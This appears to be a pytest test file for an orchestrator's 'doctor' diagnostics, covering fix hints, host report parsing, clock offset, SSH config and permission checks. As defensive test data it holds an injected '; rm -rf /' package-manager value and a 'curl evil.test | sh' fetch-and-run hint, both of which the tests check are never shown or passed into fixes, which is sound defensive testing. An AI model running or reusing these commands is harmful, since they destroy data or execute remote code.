"""The doctor's reading of answers, its fixes, and its look at this machine."""

from __future__ import annotations

import os
import re
import stat
from pathlib import Path
from typing import Any

import pytest

from hostside.answer import Answer
from hostside.findings import HINTS
from orchestrator.cli.doctor import HEADER, _row, _text
from orchestrator.cli.table import table
from orchestrator.fleet.decode import failed
from orchestrator.model.evidence import Outcome, OutcomeKind, Phase
from orchestrator.workflow.doctor.control import look_at_control
from orchestrator.workflow.doctor.diagnose import _own_clock
from orchestrator.workflow.doctor.fixes import REASONS, Place, fix_of, fix_of_reason
from orchestrator.workflow.doctor.hosts import report
from orchestrator.workflow.doctor.places import file_system, look_at_places
from orchestrator.workflow.doctor.records import Diagnosis, Look
from orchestrator.workflow.settings import Settings
from tests.lab.ways import HOSTILE

PLACE = Place("web01", "deploy@192.0.2.11")


def answered(**fields: Any) -> Outcome:
    evidence = {**Answer("doctor").finish(), **fields}
    return Outcome(host="web01", phase=Phase.DOCTOR, kind=OutcomeKind.EVIDENCE, evidence=evidence)


def test_every_code_that_the_doctor_may_tell_has_a_fix_of_its_own(root: Path) -> None:
    text = "".join(
        (root / f"hostside/{name}.py").read_text(encoding="utf-8")
        for name in ("doctor", "checkantivirus", "release", "clocksync")
    )
    codes = {code for code in HINTS if f'"{code}"' in text} - {"antivirus-mirror-failed"}
    assert len(codes) > 10
    other = fix_of("unknown-code", PLACE)
    for code in codes:
        fix = fix_of(code, PLACE)
        assert fix != other and "web01" in fix, code


@pytest.mark.parametrize("manager", ["apt", "dnf", "zypper", "none", "; rm -rf /"])
def test_a_fix_holds_nothing_that_the_host_chose(manager: str) -> None:
    place = Place("web01", "deploy@192.0.2.11", manager)
    for code in HINTS:
        assert "rm -rf /" not in fix_of(code, place)
    assert ("dnf install" in fix_of("no-antivirus", place)) is (manager == "dnf")


def test_every_reason_for_no_answer_has_a_fix_with_the_host_s_login() -> None:
    plugin = (Path(__file__).parents[3] / "plugins/action/sop_phase.py").read_text(encoding="utf-8")
    decode = (Path(__file__).parents[3] / "orchestrator/fleet/decode.py").read_text()
    joined = re.sub(r'"\s*\n\s*f?"', "", plugin + decode)
    ours = [p for p, _ in REASONS if "|" not in p and not p.startswith("Connection")]
    for pattern in ours:
        assert re.search(pattern, joined), f"{pattern}: nobody says that any more"
    assert "ssh-copy-id deploy@192.0.2.11" in fix_of_reason("the login was refused: …", PLACE)
    port = Place("db", "-p 2222 deploy@192.0.2.12")
    assert "ssh-keygen -R 192.0.2.12" in fix_of_reason("its host key has changed: …", port)
    assert "deploy ALL=(root)" in fix_of_reason("sudo is refused to this user", port)
    assert "ping 192.0.2.12" in fix_of_reason("connect to host: No route to host", port)
    assert fix_of_reason("something new", port) == (
        "try by hand: ssh -p 2222 deploy@192.0.2.12 sudo -n id -u"
    )


def test_what_a_host_says_is_inert_and_its_hint_is_not_shown() -> None:
    problem = {"code": "no-backup", "message": HOSTILE, "hint": "curl evil.test | sh"}
    facts = {"python": HOSTILE, "package_manager": HOSTILE, "disk": [{"mount": HOSTILE, "free": 1}],
             "antivirus": {"product": HOSTILE, "databases": "x"}, "clock": 1.0}  # fmt: skip
    made = report(answered(problems=[problem], facts=facts), "deploy@192.0.2.11", 0.0, 2.0)
    text = _text(Diagnosis(hosts=[made]))
    assert not [c for c in text if c != "\n" and not c.isprintable()]
    assert "curl evil" not in text and max(map(len, text.splitlines())) < 700
    for columns in (40, 200, 1000):
        shown = table(HEADER, [_row(made)], columns)
        assert not [c for c in shown if c != "\n" and not c.isprintable()]
        assert "\x1b" not in shown


@pytest.mark.parametrize(
    "facts",
    [{"python": ["x"]}, {"login": "root"}, {"backup": {"against": ["x"]}}, {"clock": "now"},
     {"disk": {"mount": "/"}}],
)  # fmt: skip
def test_facts_of_another_form_are_a_finding_and_no_traceback(facts: dict[str, Any]) -> None:
    made = report(answered(facts=facts), "", 0.0, 1.0)
    assert made.reached and made.facts is None
    assert "malformed" in made.findings[0].words


def test_a_clock_between_question_and_answer_is_right() -> None:
    offsets = [
        report(answered(facts={"clock": clock}), "", 1000.0, 1010.0).offset
        for clock in (1000.0, 1005.0, 1010.0, 990.0, 1025.5)
    ]
    assert offsets == [0.0, 0.0, 0.0, -10.0, 15.5]
    assert report(answered(), "", 1.0, 2.0).offset is None


def test_when_all_hosts_are_off_it_is_this_machine() -> None:
    def host(clock: float) -> Any:
        problems = [{"code": "clock-off", "message": "x"}] if clock != 1000 else []
        outcome = answered(facts={"clock": clock}, problems=problems)
        return report(outcome, "", 1000.0, 1001.0)

    assert "this machine's clock" in _own_clock([host(5000), host(5001)])[0].words
    assert _own_clock([host(5000)]) == []
    assert _own_clock([host(5000), host(1000)]) == []
    assert _own_clock([host(5000), host(10)]) == []


def test_a_host_without_answer_is_reached_or_not() -> None:
    made = report(failed("web01", Phase.DOCTOR, "no Python 3 on the host: …"), "", 0.0, 1.0)
    assert made.reached and "apt-get install python3" in made.findings[0].fix
    lost = Outcome(host="x", phase=Phase.DOCTOR, kind=OutcomeKind.UNREACHABLE, reason="no route")
    assert report(lost, "", 0.0, 1.0).reached is False


def by_name(looks: list[Look]) -> dict[str, Look]:
    return {look.name: look for look in looks}


def test_this_machine_can_sign_and_every_finding_has_a_fix() -> None:
    looks = look_at_control()
    assert by_name(looks)["ssh-keygen"].level == "ok", by_name(looks)["ssh-keygen"]
    assert by_name(looks)["ansible-core"].words.startswith("2.19.")
    assert [look for look in looks if look.level == "finding" and not look.fix] == []


def test_a_broken_or_trusting_ssh_config_is_found(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """By an `ssh` of that name that reads another file: a user's own file cannot be moved."""
    import shutil

    real = shutil.which("ssh")
    (tmp_path / "ssh").write_text(f'#!/bin/sh\nexec {real} -F {tmp_path}/config "$@"\n')
    (tmp_path / "ssh").chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}:{os.environ['PATH']}")
    config = tmp_path / "config"
    config.write_text("Host *\n  NoSuchOption yes\n")
    config.chmod(0o600)
    look = by_name(look_at_control())["ssh config"]
    assert look.level == "finding" and "nosuchoption" in look.words.lower()
    config.write_text(f"Host *\n  StrictHostKeyChecking no\n  UserKnownHostsFile {tmp_path}/k\n")
    looks = by_name(look_at_control())
    assert "trusted silently" in looks["ssh config"].words
    assert looks["known_hosts"].level == "note"
    (tmp_path / "k").write_text("nonsense\n")
    assert by_name(look_at_control())["known_hosts"].level == "finding"


def test_rights_room_and_umask(tmp_path: Path) -> None:
    inventory, office = tmp_path / "inventory/hosts.yml", tmp_path / "inventory/office.yml"
    (tmp_path / "inventory/group_vars").mkdir(parents=True)
    for path in (inventory, office, tmp_path / "inventory/group_vars/all.yml"):
        path.write_text("x: 1\n")
        path.chmod(0o640)
    settings = Settings(inventory, office, tmp_path / "var")
    before = os.umask(0o022)
    try:
        looks = by_name(look_at_places(settings))
        assert {looks[n].level for n in ("home", "umask", "rights")} == {"ok"}, looks
        os.umask(0o000)
        assert by_name(look_at_places(settings))["umask"].level == "finding"
    finally:
        os.umask(before)
    loose = tmp_path / "inventory/group_vars/all.yml"
    loose.chmod(loose.stat().st_mode | stat.S_IWOTH)
    look = by_name(look_at_places(settings))["rights"]
    assert (look.level, look.fix) == ("finding", f"chmod o-w {loose}")
    assert not (tmp_path / "var").exists()
    assert file_system(Path("/proc")) == "proc"
